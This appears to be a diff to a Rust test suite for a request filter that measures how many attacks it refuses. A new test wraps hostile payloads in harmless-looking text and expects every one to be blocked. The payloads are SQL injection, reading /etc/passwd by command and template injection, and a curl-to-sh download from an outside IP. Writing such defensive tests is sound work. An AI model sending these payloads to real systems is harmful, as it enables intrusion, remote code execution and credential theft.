@@ -51,15 +51,19 @@ fn written(folder: &Path, half: &str) -> Vec<PathBuf> {
     kinds.into_iter().map(write).collect()
 }
 
+/// What the program makes of these files.
+fn decided(folder: &Path, files: &[PathBuf]) -> serde_json::Value {
+    let mut args = vec!["rules", "measure", "--output", "json"];
+    args.extend(files.iter().map(|path| path.to_str().expect("a name")));
+    let output = command(folder, &args);
+    assert!(output.status.success(), "{}", text(&output.stderr));
+    serde_json::from_slice(&output.stdout).expect("JSON")
+}
+
 /// Percentages of attacks refused and of honest requests passed.
 fn measured(half: &str) -> (f64, f64) {
     let folder = tempfile::tempdir().expect("a folder");
-    let files = written(folder.path(), half);
-    let mut args = vec!["rules", "measure", "--output", "json"];
-    args.extend(files.iter().map(|path| path.to_str().expect("a name")));
-    let output = command(folder.path(), &args);
-    assert!(output.status.success(), "{}", text(&output.stderr));
-    let measured: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
+    let measured = decided(folder.path(), &written(folder.path(), half));
     println!("{half}: {measured:#}");
     let percent = |key: &str| measured[key].as_f64().expect("a number");
     (percent("attacks_refused_percent"), percent("honest_passed_percent"))
@@ -88,4 +92,44 @@ fn what_is_hardest_to_tell_apart_is_mostly_decided_right() {
     let (attacks, honest) = measured("fourth");
     assert!(attacks >= 97.3, "{attacks} % of attacks refused");
     assert!(honest >= 96.9, "{honest} % of honest requests passed");
+}
+
+/// What makes a value look like source, a quotation or a letter, and costs an attacker nothing.
+const WRAPPINGS: [&str; 8] = [
+    "a:\nb\n",
+    "Hi:\nb\nc\n",
+    "<?php\n1\n2\n",
+    "import a\nb\nc\n",
+    "```\nx\n``` ",
+    "[code]x[/code] ",
+    "`a` is a note that tells you about this thing ",
+    "Dear team, I would like to tell you about the thing we saw yesterday: ",
+];
+/// What ends a text or a command and goes on.
+const BREAK_OUTS: [&str; 5] = [
+    "' UNION SELECT password FROM users -- ",
+    "' or '1'='1",
+    "x; cat /etc/passwd",
+    "$(curl http://203.0.113.9/x|sh)",
+    "{{''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()}}",
+];
+
+#[test]
+fn what_stands_in_front_of_an_attack_makes_it_no_quotation() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let path = folder.path().join("wrapped.jsonl");
+    let mut file = File::create(&path).expect("a file");
+    for wrapping in WRAPPINGS {
+        for attack in BREAK_OUTS {
+            let body = serde_json::json!({ "name": format!("{wrapping}{attack}") }).to_string();
+            let line = serde_json::json!({
+                "method": "POST", "url": "/v1/items", "body": body, "attack": true,
+                "headers": [["host", "api.example.com"], ["content-type", "application/json"]],
+                "class": wrapping,
+            });
+            writeln!(file, "{line}").expect("a line");
+        }
+    }
+    let decided = decided(folder.path(), &[path]);
+    assert_eq!(decided["attacks_refused_percent"], 100.0, "{decided:#}");
 }
